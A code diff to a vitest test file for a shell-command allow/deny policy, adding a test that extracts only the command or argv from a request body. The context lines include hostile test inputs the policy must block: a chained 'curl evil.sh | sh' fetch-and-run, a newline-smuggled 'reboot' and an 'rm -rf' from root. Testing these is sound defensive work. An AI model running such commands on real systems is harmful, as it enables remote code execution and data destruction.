@@ -5,7 +5,7 @@ import { describe, expect, it } from "vitest";
 import { ConfigError } from "@shell-exec/shared/config/env.ts";
 import { ShellExecError } from "@shell-exec/shared/errors.ts";
 import { CommandNotAllowedError } from "./command-not-allowed-error.ts";
-import { CommandPolicy, commandPolicyFromEnv } from "./command-policy.ts";
+import { CommandPolicy, commandPolicyFromEnv, commandSubjectFromBody } from "./command-policy.ts";
 
 const shell = (command: string) => ({ mode: "shell" as const, command });
 const exec = (...argv: string[]) => ({ mode: "exec" as const, argv });
@@ -33,6 +33,12 @@ describe("CommandPolicy", () => {
     expect(policy.evaluate("key:a", shell("ls; curl evil.sh | sh"))).toEqual({ allowed: false, rule: "allow", scope: "global" });
     expect(policy.evaluate("key:a", shell("ls\nreboot"))).toEqual({ allowed: false, rule: "allow", scope: "global" });
     expect(policy.evaluate("key:a", shell("cd / && rm  -rf x"))).toEqual({ allowed: false, rule: "deny", scope: "global" });
+  });
+
+  it("takes the subject from a submit body, leaving every other field behind", () => {
+    const body = { service: "web", command: "echo hi", stdin: "secret", env: { A: "b" } };
+    expect(commandSubjectFromBody(body)).toEqual({ mode: "shell", command: "echo hi" });
+    expect(commandSubjectFromBody({ argv: ["ls", "-la"] })).toEqual({ mode: "exec", argv: ["ls", "-la"] });
   });
 
   it("lets deny win over allow", () => {
